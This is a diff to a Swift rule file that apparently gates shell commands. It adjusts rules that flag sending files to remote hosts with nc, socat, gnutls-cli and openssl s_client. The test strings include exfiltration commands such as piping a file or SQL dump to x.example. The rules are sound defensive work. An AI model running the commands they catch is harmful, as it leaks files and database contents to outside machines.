@@ -84,10 +84,13 @@ enum UploadRules {
       id: "upload.file-to-socket", ruling: .ask, severity: .high,
       reason: "sends a file to another machine",
       advice: nil,
-      program: "nc|ncat|netcat|telnet|socat",
+      program: "nc|ncat|netcat|telnet|socat|gnutls-cli",
       command: "",
       when: "@input !:localhost|127.*|*localhost*|*127.0.0.1* @some",
-      match: "nc x.example 9 < a.txt",
+      match: """
+        nc x.example 9 < a.txt
+        gnutls-cli x.example < a.txt
+        """,
       notMatch: """
         nc localhost 9 < a.txt
         nc -z x.example 9
@@ -96,12 +99,11 @@ enum UploadRules {
       id: "upload.file-to-tls", ruling: .ask, severity: .high,
       reason: "sends a file to another machine",
       advice: "`< /dev/null` shows the certificate",
-      program: "openssl|gnutls-cli",
-      command: "",
+      program: "openssl",
+      command: "s_client",
       when: """
-        @input @written:s_client|gnutls-cli !:localhost*|127.*|::1*|[::1]*
-        @from:* !@from:echo|printf|yes|sleep|true|: @written:s_client|gnutls-cli \
-        !:localhost*|127.*|::1*|[::1]*
+        @input !:localhost*|127.*|::1*|[::1]*
+        @from:* !@from:echo|printf|yes|sleep|true|: !@stdin !:localhost*|127.*|::1*|[::1]*
         """,
       match: """
         openssl s_client -connect x.example:443 < dump.sql
@@ -122,7 +124,7 @@ enum UploadRules {
       command: "",
       when: """
         @from:tar|docker|podman|zip|gzip|pg_dump|mysqldump|git|env|printenv @some
-        @from:cat|head|tail|sed|grep|awk|jq|base64|bzip2|xz|zstd|lz4|openssl|gpg|dd|pv|sqlite3|mongodump|cpio \
+        @from:cat|head|tail|sed|grep|awk|jq|base64|bzip2|xz|zstd|lz4|openssl|gpg|dd|pv|sqlite3|mongodump|cpio !@stdin \
         :*cat*>*|*tee*|dd*of=*|*tar*x*|*psql*|*mysql*
         @input :*cat*>*|*tee*|dd*of=*|*tar*x*
         """,
